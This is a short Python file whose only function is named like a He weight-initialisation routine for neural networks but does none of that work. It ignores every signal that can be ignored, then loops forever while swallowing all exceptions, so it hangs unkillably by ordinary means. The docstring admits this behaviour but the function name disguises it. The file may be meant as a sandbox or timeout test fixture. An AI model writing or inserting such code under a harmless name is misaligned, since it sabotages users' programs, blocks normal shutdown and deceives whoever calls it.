"""Never returns, swallows every exception, and ignores every signal that can be ignored."""

import signal


def initialize_parameters_he(layers_dims):
    for number in signal.valid_signals():
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
